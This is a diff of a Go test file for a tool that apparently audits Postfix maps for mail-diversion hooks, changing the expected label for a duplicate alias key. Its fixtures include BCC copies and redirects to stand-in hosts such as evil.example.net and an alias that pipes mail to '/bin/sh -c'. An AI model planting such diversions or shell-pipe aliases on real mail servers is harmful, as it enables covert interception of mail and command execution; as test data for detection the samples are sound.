@@ -116,7 +116,7 @@ func TestHookFamilies(t *testing.T) {
 			"/etc/postfix/t2:recipient_bcc_maps:/^k1$/ | copy | address drop@evil.example.net | copy | remote"}},
 		{"a key twice", "virtual_alias_maps = texthash:/etc/postfix/t1\n", map[string]string{"/etc/postfix/t1": "a@example.test bob\nA@example.test x@evil.example.net\n"}, []string{
 			"/etc/postfix/t1:virtual_alias_maps:a@example.test | redirect | address bob | divert",
-			"/etc/postfix/t1:virtual_alias_maps:A@example.test | redirect | address x@evil.example.net | divert | remote | inactive"}},
+			"/etc/postfix/t1:virtual_alias_maps:a@example.test#2 | redirect | address x@evil.example.net | divert | remote | inactive"}},
 		{"aliases", "alias_maps = hash:/etc/aliases\n", map[string]string{
 			"/etc/aliases": "root: admin\nlog: \"|/bin/sh -c 'id > /x'\", /var/tmp/f, /dev/null\nteam: :include:/etc/team\nalice: \\alice, a@evil.example.net\n",
 			"/etc/team":    "bob\n|/usr/local/bin/x\n:include:/etc/team\n"}, []string{
